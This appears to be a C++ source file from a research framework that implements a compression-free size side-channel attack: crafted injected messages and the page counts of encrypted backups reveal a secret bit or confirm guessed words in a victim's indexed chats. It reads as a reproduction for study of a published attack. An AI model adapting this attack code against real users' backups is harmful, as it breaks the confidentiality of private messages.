// Copyright 2026 The Leaklab Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include <algorithm>
#include <array>
#include <map>
#include <optional>
#include <set>

#include "leaklab/attacks.hpp"
#include "leaklab/errors.hpp"
#include "leaklab/fts_index.hpp"

// Distinguishing attack on the keyword index. The victim's unknowns are the
// pre-existing level-0 segment count n (0..15) and the target bit b; every
// size the index produces for adversarial input is computable offline, so
// the attack plans its message lengths by replaying each (n, b) hypothesis
// against a local victim replica and solving for a measurement schedule
// whose first page-allocation round has parity b for all n in 0..13.
//
// Protocol (a concrete reconstruction of the published six-phase outline):
//  1. sixteen flush messages cycle every level-0 segment to adversarial
//     content; their sizes follow a template chosen so the per-n spread of
//     the final page fill stays coverable by thirteen measurement buckets;
//  2. the target v_b arrives, then the guess v_0 is injected;
//  3. thirteen follow-up messages drive the count to the merge that isolates
//     {flush leftovers, v_b, v_0, follow-ups} in one level-1 root. Their
//     cells are sized so a page allocation provably occurs between the
//     flush-merge row and the isolating merge, which pins the root's page to
//     known content for every possible prior state. The last two follow-ups
//     carry punctuation tails (tokenized to nothing) that park the messages
//     table on a fresh page, so measurement rounds can never allocate there;
//  4. measurement messages add one segdir cell each until the page
//     overflows; the parity of the first allocating round encodes b.

namespace leaklab::attacks {

namespace {

constexpr int kFlushCount = 16;
constexpr int kCPrimeCount = 13;
constexpr int kMeasureCount = 13;
constexpr size_t kPadTail = 2050;

struct FtsPlan {
  std::string v0, v1;
  std::vector<size_t> flush_lens;   // 16 token lengths
  std::vector<size_t> cprime_lens;  // 13; last two carry pad tails
  std::vector<std::string> m_bodies;
  // Predicted first-allocation round per hypothesis (n in 0..15, b in 0..1);
  // 0 = no allocation within the schedule, -1 = state the model rejects.
  std::array<int, 32> predicted{};
};

// --- tokens -----------------------------------------------------------------

char base36(size_t v) {
  return v < 10 ? static_cast<char>('0' + v)
                : static_cast<char>('a' + (v - 10));
}

std::string make_token(char prefix, size_t index, size_t len,
                       const std::set<std::string>& avoid) {
  std::string t;
  t.push_back(prefix);
  t.push_back(base36(index % 36));
  if (index >= 36) t.push_back(base36((index / 36) % 36));
  while (t.size() < len) t.push_back('q');
  while (avoid.count(t)) t.back() = t.back() == 'z' ? 'a' : t.back() + 1;
  return t;
}

// Node bytes of a single-posting entry with a small docid.
size_t token_entry_len(size_t token_len) {
  std::vector<TermDoclist> entries = {
      TermDoclist{std::string(token_len, 'x'), {Posting{9, {0}}}}};
  return encode_node(entries).size();
}

// Smallest possible segdir cell (pointer included) for a single-token
// level-0 segment of this token length; used for prior-independent bounds.
size_t min_l0_cell(size_t token_len, const PageConfig& page) {
  Segment probe;
  probe.entries = {TermDoclist{std::string(token_len, 'x'), {Posting{1, {0}}}}};
  return segdir_cell_len(probe, 1, page) + page.cell_pointer_len;
}

// --- local replica ----------------------------------------------------------

struct SimResult {
  bool crashed = false;        // exceeded the single-root-node model
  int first_alloc_round = 0;   // 0 = none within the schedule
  size_t free_before_measure = 0;
  size_t free_after_first_m = 0;
  bool merged_in_cprime = false;
};

SimResult simulate_hypothesis(const FtsPlan& plan, const FtsParams& params,
                              int n, int b,
                              const std::set<std::string>& avoid) {
  SimResult res;
  ClientConfig cc;
  cc.profile = Profile::kWhatsApp;
  cc.page = params.page;
  Client sim(cc, /*seed=*/7);
  int64_t ts = 0;

  try {
    int priors = params.prior_epoch * 16 + n;
    for (int i = 0; i < priors; ++i)
      sim.receive(
          InboundMessage::text("peer", make_token('p', i, 3, avoid), ++ts));

    for (int i = 0; i < kFlushCount; ++i)
      sim.receive(InboundMessage::text(
          "adv", make_token('f', i, plan.flush_lens[i], avoid), ++ts));

    sim.receive(InboundMessage::text("honest", b == 0 ? plan.v0 : plan.v1, ++ts));
    sim.receive(InboundMessage::text("adv", plan.v0, ++ts));

    for (int j = 0; j < kCPrimeCount; ++j) {
      std::string body = make_token('c', j, plan.cprime_lens[j], avoid);
      if (j >= kCPrimeCount - 2) body += " " + std::string(kPadTail, '.');
      sim.receive(InboundMessage::text("adv", body, ++ts));
    }

    res.merged_in_cprime = sim.index().count_at_level(0) <
                           static_cast<size_t>(n) + 2 + kCPrimeCount;
    res.free_before_measure =
        sim.db().table("fts_segdir").last_page_free_space();

    size_t pages = sim.db().page_count();
    for (size_t i = 0; i < plan.m_bodies.size(); ++i) {
      sim.receive(InboundMessage::text("adv", plan.m_bodies[i], ++ts));
      if (i == 0)
        res.free_after_first_m =
            sim.db().table("fts_segdir").last_page_free_space();
      if (sim.db().page_count() > pages) {
        res.first_alloc_round = static_cast<int>(i) + 1;
        break;
      }
    }
  } catch (const OversizedPayload&) {
    res.crashed = true;
  }
  return res;
}

// Prior-independent pinning guarantee: the flush-merge row (at its smallest
// possible size) plus every cell inserted before the isolating merge's
// trigger must overrun even a completely empty page, so an allocation
// separates the measured page from any unknown prior content.
bool window_guarantee_holds(const FtsPlan& plan, const FtsParams& params,
                            int n, const std::set<std::string>& avoid) {
  const PageConfig& page = params.page;
  try {
    Segment tflush;
    tflush.level = 1;
    for (int i = 0; i < kFlushCount - n; ++i)
      tflush.entries.push_back(TermDoclist{
          make_token('f', i, plan.flush_lens[i], avoid), {Posting{1, {0}}}});
    for (int i = 0; i < n; ++i)
      tflush.entries.push_back(
          TermDoclist{std::string(1, base36(i)), {Posting{1, {0}}}});
    size_t total =
        segdir_cell_len(tflush, 1, page) + page.cell_pointer_len;

    for (int i = kFlushCount - n; i < kFlushCount; ++i)
      total += min_l0_cell(plan.flush_lens[i], page);
    total += 2 * min_l0_cell(plan.v0.size(), page);
    int trigger = 14 - n;  // c'_{14-n}; for n=0 the run must already overflow
    for (int j = 0; j < std::min(trigger, kCPrimeCount); ++j)
      total += min_l0_cell(plan.cprime_lens[j], page);
    return total > page.capacity();
  } catch (const OversizedPayload&) {
    return false;
  }
}

// --- measurement schedule ---------------------------------------------------

struct PlanPoint {
  size_t free = 0;
  int b = 0;
};

// Bucket boundaries (cumulative measurement-cell sums) such that a page
// with free space F overflows at a round of parity matching F's bit:
// K odd for b=0, K even for b=1.
std::optional<std::vector<size_t>> solve_thresholds(
    std::vector<PlanPoint> points, size_t min_cell) {
  std::sort(points.begin(), points.end(),
            [](const PlanPoint& a, const PlanPoint& b) {
              return a.free < b.free;
            });
  struct Group {
    size_t lo, hi;
    int b;
  };
  std::vector<Group> groups;
  for (const auto& p : points) {
    if (!groups.empty() && groups.back().b == p.b) {
      groups.back().hi = p.free;
    } else {
      if (!groups.empty() && p.free < groups.back().hi + 8)
        return std::nullopt;  // opposite parities too close to split
      groups.push_back(Group{p.free, p.free, p.b});
    }
  }
  if (groups.empty()) return std::nullopt;

  std::vector<size_t> sums;
  int first_b = groups[0].b;
  if (first_b == 1) {
    // K=1 answers b=0, so spend a dummy bucket below the lowest point.
    if (groups[0].lo < 2 * min_cell + 8) return std::nullopt;
    sums.push_back(groups[0].lo / 2);
  }
  for (size_t g = 0; g < groups.size(); ++g) {
    size_t boundary;
    if (g + 1 < groups.size()) {
      boundary = groups[g].hi + (groups[g + 1].lo - groups[g].hi + 1) / 2;
      if (boundary <= groups[g].hi || boundary > groups[g + 1].lo)
        return std::nullopt;
    } else {
      boundary = groups[g].hi + std::max<size_t>(40, min_cell);
    }
    size_t prev = sums.empty() ? 0 : sums.back();
    if (boundary < prev + min_cell) {
      boundary = prev + min_cell;
      if (boundary <= groups[g].hi) return std::nullopt;
      if (g + 1 < groups.size() && boundary > groups[g + 1].lo)
        return std::nullopt;
    }
    sums.push_back(boundary);
  }
  if (sums.size() > static_cast<size_t>(kMeasureCount)) return std::nullopt;
  return sums;
}

// Exact segdir bytes (cell plus pointer) a measurement body costs, probed
// through the real encoder.
size_t measure_cell_cost(const std::string& body, const PageConfig& page) {
  Segment probe;
  probe.level = 0;
  probe.ordinal = 3;
  probe.entries = doc_entries(60, tokenize(body));
  return segdir_cell_len(probe, 60, page) + page.cell_pointer_len;
}

// Builds a measurement body out of distinct short tokens whose segdir cost
// is as close to `target_cell` as the encoding allows (within ~2 bytes).
std::string build_measure_body(int round, size_t target_cell,
                               const PageConfig& page,
                               const std::set<std::string>& avoid) {
  size_t per3 = token_entry_len(3);
  auto assemble = [&](size_t node_target) {
    std::vector<std::string> tokens;
    size_t count = std::max<size_t>(1, node_target / per3);
    for (size_t k = 0; k < count; ++k) {
      std::string t;
      t.push_back('m');
      t.push_back(base36(static_cast<size_t>(round)));
      t.push_back(base36(k % 36));
      if (k >= 36) t.push_back(base36((k / 36) % 36));
      while (avoid.count(t)) t.back() = t.back() == 'z' ? 'a' : t.back() + 1;
      tokens.push_back(t);
    }
    size_t node = 0;
    for (const auto& t : tokens) node += token_entry_len(t.size());
    if (node < node_target && !tokens.empty())
      tokens.back().append(node_target - node, 'q');
    std::string body;
    for (size_t k = 0; k < tokens.size(); ++k) {
      if (k) body.push_back(' ');
      body += tokens[k];
    }
    return body;
  };

  size_t node_target = target_cell > 20 ? target_cell - 16 : 4;
  std::string body = assemble(node_target);
  size_t got = measure_cell_cost(body, page);
  if (got != target_cell) {
    long corrected = static_cast<long>(node_target) +
                     static_cast<long>(target_cell) - static_cast<long>(got);
    if (corrected > 4) body = assemble(static_cast<size_t>(corrected));
  }
  return body;
}

std::optional<FtsPlan> try_plan(const std::string& v0, const std::string& v1,
                                const FtsParams& params,
                                const std::vector<size_t>& flush_lens,
                                size_t cprime_len,
                                const std::set<std::string>& avoid) {
  FtsPlan plan;
  plan.v0 = v0;
  plan.v1 = v1;
  plan.flush_lens = flush_lens;
  plan.cprime_lens.assign(kCPrimeCount, cprime_len);

  for (int n = 0; n <= 15; ++n)
    if (!window_guarantee_holds(plan, params, n, avoid)) return std::nullopt;

  // Page fills at measurement start for hypotheses whose isolating merge
  // completes during the follow-up run.
  std::vector<PlanPoint> points;
  for (int n = 1; n <= 13; ++n) {
    for (int b = 0; b < 2; ++b) {
      SimResult r = simulate_hypothesis(plan, params, n, b, avoid);
      if (r.crashed || !r.merged_in_cprime) return std::nullopt;
      points.push_back(PlanPoint{r.free_before_measure, b});
    }
  }

  const size_t min_cell = measure_cell_cost("maa", params.page);

  // Messages-table budget under the pad pin.
  size_t pad_row_max = cprime_len + 1 + kPadTail + kEpsilonMax + 9;
  if (pad_row_max + 64 > params.page.capacity()) return std::nullopt;
  size_t msg_budget =
      params.page.capacity() - pad_row_max - params.page.cell_pointer_len - 72;

  // n=0 merges at the first measurement message; a couple of fixpoint
  // rounds fold its effective fill into the threshold solve.
  std::vector<PlanPoint> extra;
  for (int iter = 0; iter < 6; ++iter) {
    std::vector<PlanPoint> all = points;
    all.insert(all.end(), extra.begin(), extra.end());
    auto sums = solve_thresholds(all, min_cell);
    if (!sums) return std::nullopt;

    plan.m_bodies.clear();
    size_t actual_sum = 0;
    size_t msg_bytes = 0;
    for (size_t i = 0; i < sums->size(); ++i) {
      size_t target = (*sums)[i] > actual_sum ? (*sums)[i] - actual_sum
                                              : min_cell;
      std::string body = build_measure_body(static_cast<int>(i), target,
                                            params.page, avoid);
      actual_sum += measure_cell_cost(body, params.page);
      msg_bytes += body.size() + kEpsilonMax + 9 + params.page.cell_pointer_len;
      plan.m_bodies.push_back(body);
    }
    if (msg_bytes > msg_budget) return std::nullopt;

    bool refit = false;
    bool ok = true;
    std::set<int> used_rounds;
    for (int n = 0; n <= 13 && ok; ++n) {
      for (int b = 0; b < 2 && ok; ++b) {
        SimResult r = simulate_hypothesis(plan, params, n, b, avoid);
        if (r.crashed || r.first_alloc_round == 0) {
          ok = false;
          break;
        }
        plan.predicted[n * 2 + b] = r.first_alloc_round;
        int parity_bit = r.first_alloc_round % 2 == 1 ? 0 : 1;
        if (parity_bit != b) {
          if (n == 0 && r.first_alloc_round > 1) {
            size_t u1 = measure_cell_cost(plan.m_bodies[0], params.page);
            extra.push_back(PlanPoint{r.free_after_first_m + u1, b});
            refit = true;
          }
          ok = false;
        }
        if (n == 0 && r.first_alloc_round == 1) ok = false;  // merge obscured
        used_rounds.insert(r.first_alloc_round);
      }
    }
    if (!ok) {
      if (refit) continue;
      return std::nullopt;
    }

    // Indeterminate states must stay observationally distinct.
    for (int n = 14; n <= 15; ++n) {
      for (int b = 0; b < 2; ++b) {
        SimResult r = simulate_hypothesis(plan, params, n, b, avoid);
        plan.predicted[n * 2 + b] = r.crashed ? -1 : r.first_alloc_round;
        if (!r.crashed && r.first_alloc_round != 0 &&
            used_rounds.count(r.first_alloc_round))
          return std::nullopt;
      }
    }
    return plan;
  }
  return std::nullopt;
}

std::optional<FtsPlan> plan_fts(const std::string& v0, const std::string& v1,
                                const FtsParams& params) {
  std::set<std::string> avoid;
  for (const auto& t : tokenize(v0)) avoid.insert(t);
  for (const auto& t : tokenize(v1)) avoid.insert(t);

  size_t v_len = v0.size();

  std::vector<std::vector<size_t>> flush_candidates;
  // Uniform template: one flush size from the window corridor.
  for (size_t fl : {200, 160, 240, 120, 280, 90, 60, 30, 8})
    flush_candidates.push_back(std::vector<size_t>(kFlushCount, fl));
  // Alternating template: three large flushes that always merge away with
  // the priors, then a small/large comb over the leftover-eligible tail.
  for (size_t big : {180, 260, 340, 420, 500, 140, 100}) {
    std::vector<size_t> lens(kFlushCount, 3);
    lens[0] = lens[1] = lens[2] = big;
    for (int i = kFlushCount - 2; i >= 4; i -= 2) lens[i] = big;
    flush_candidates.push_back(lens);
  }

  std::vector<size_t> cprime_candidates;
  long base = 3810 - 2 * static_cast<long>(v_len);
  for (long d : {0L, 240L, 480L, 720L, -240L, 960L}) {
    long f = (base + d) / 14;
    if (f >= 4 && f <= 280) cprime_candidates.push_back(static_cast<size_t>(f));
  }
  for (size_t f : {4, 24, 60, 120, 200, 260})
    cprime_candidates.push_back(f);

  for (const auto& flushes : flush_candidates)
    for (size_t f : cprime_candidates)
      if (auto plan = try_plan(v0, v1, params, flushes, f, avoid)) return plan;
  return std::nullopt;
}

size_t observed_pages(const BackupObservation& obs, const FtsParams& params) {
  return (obs.whatsapp->ciphertext_len - params.observe_overhead) /
         params.page.page_size;
}

}  // namespace

AttackTranscript fts_attack(BackupOracle& oracle, const std::string& v0,
                            const std::string& v1, const FtsParams& params,
                            Rng& rng) {
  (void)rng;
  if (v0.size() != v1.size())
    throw Error("fts attack: candidates must have equal byte length");
  if (v0.size() < 40 || v0.size() > 2000)
    throw InfeasibleCandidate("candidate length outside [40, 2000]");
  if (tokenize(v0) == tokenize(v1))
    throw Error("fts attack: candidates tokenize identically");

  auto plan = plan_fts(v0, v1, params);
  if (!plan)
    throw InfeasibleCandidate(
        "no feasible measurement schedule for this candidate length under "
        "the single-root-node model");

  AttackTranscript t;
  t.message_bound = 44;
  t.backup_bound = 16;

  std::set<std::string> avoid;
  for (const auto& tok : tokenize(v0)) avoid.insert(tok);
  for (const auto& tok : tokenize(v1)) avoid.insert(tok);

  try {
    for (int i = 0; i < kFlushCount; ++i) {
      oracle.inject(InboundMessage::text(
          "adv", make_token('f', i, plan->flush_lens[i], avoid)));
      t.messages_sent++;
    }
    oracle.wait_for_target();
    oracle.inject(InboundMessage::text("adv", plan->v0));
    t.messages_sent++;
    for (int j = 0; j < kCPrimeCount; ++j) {
      std::string body = make_token('c', j, plan->cprime_lens[j], avoid);
      if (j >= kCPrimeCount - 2) body += " " + std::string(kPadTail, '.');
      oracle.inject(InboundMessage::text("adv", body));
      t.messages_sent++;
    }

    size_t pages = observed_pages(oracle.next_backup(), params);
    t.backups_seen++;

    int first_alloc = 0;
    for (size_t i = 0; i < plan->m_bodies.size(); ++i) {
      oracle.inject(InboundMessage::text("adv", plan->m_bodies[i]));
      t.messages_sent++;
      size_t now = observed_pages(oracle.next_backup(), params);
      t.backups_seen++;
      if (now > pages) {
        first_alloc = static_cast<int>(i) + 1;
        break;
      }
      pages = now;
    }
    t.log("first allocation at measurement round " +
          std::to_string(first_alloc));

    std::set<int> bits;
    bool indeterminate = false;
    for (int n = 0; n <= 15; ++n) {
      for (int b = 0; b < 2; ++b) {
        if (plan->predicted[n * 2 + b] != first_alloc) continue;
        if (n >= 14)
          indeterminate = true;
        else
          bits.insert(b);
      }
    }
    if (bits.size() == 1 && !indeterminate) {
      t.answer = "b:" + std::to_string(*bits.begin());
    } else if (indeterminate || !bits.empty()) {
      t.fail("IndeterminateState: pre-existing level-0 count outside [0,13]");
    } else {
      t.fail("Level2Merge: observation matches no hypothesis (level-1 "
             "cascade suspected)");
    }
  } catch (const OversizedPayload& e) {
    t.fail(std::string("Level2Merge: victim state left the single-root-node "
                       "model: ") + e.what());
  }
  t.enforce();
  return t;
}

FtsSimpleOutcome fts_simple_confirm(BackupOracle& oracle,
                                    const std::string& prefix,
                                    const std::string& target_word,
                                    const std::string& guess_word,
                                    const FtsParams& params) {
  (void)target_word;
  // Local replicas of the known single-message state give the two possible
  // page fills exactly: the merged tree either folds the guess into the
  // target's doclists or carries it as a separate entry plus the target's.
  auto replay = [&](const std::string& word) {
    ClientConfig cc;
    cc.profile = Profile::kWhatsApp;
    cc.page = params.page;
    Client sim(cc, 7);
    int64_t ts = 0;
    sim.receive(InboundMessage::text("honest", prefix + " " + word, ++ts));
    sim.receive(InboundMessage::text("adv", prefix + " " + guess_word, ++ts));
    for (int i = 0; i < 15; ++i)
      sim.receive(InboundMessage::text("adv", "a", ++ts));
    return sim.db().table("fts_segdir").last_page_free_space();
  };

  FtsSimpleOutcome out;
  out.n_match = replay(guess_word);
  std::string other(guess_word.size(), 'x');
  if (other == guess_word) other.assign(guess_word.size(), 'y');
  out.n_mismatch = replay(other);

  oracle.wait_for_target();
  oracle.inject(InboundMessage::text("adv", prefix + " " + guess_word));
  for (int i = 0; i < 15; ++i) oracle.inject(InboundMessage::text("adv", "a"));
  // Park the messages table so the discriminator's own row always allocates
  // exactly one page there, keeping the page-count delta interpretable.
  oracle.inject(InboundMessage::text("adv", std::string(2500, '.')));

  size_t lo = std::min(out.n_match, out.n_mismatch);
  size_t hi = std::max(out.n_match, out.n_mismatch);
  if (hi - lo < 3)
    throw InfeasibleCandidate("simple setup: free-space gap too small");

  std::string disc;
  for (size_t len = 1; len < 3900 && disc.empty(); ++len) {
    Segment probe;
    probe.entries = doc_entries(19, tokenize(std::string(len, 'd')));
    size_t cell =
        segdir_cell_len(probe, 19, params.page) + params.page.cell_pointer_len;
    if (cell > lo && cell <= hi) disc = std::string(len, 'd');
  }
  if (disc.empty()) throw InfeasibleCandidate("simple setup: no discriminator");

  size_t before = observed_pages(oracle.baseline(), params);
  oracle.inject(InboundMessage::text("adv", disc));
  size_t after = observed_pages(oracle.next_backup(), params);

  // One page always goes to the messages table; a second page means the
  // segdir cell missed the larger free-space branch.
  out.matched = after - before <= 1;
  return out;
}

}  // namespace leaklab::attacks
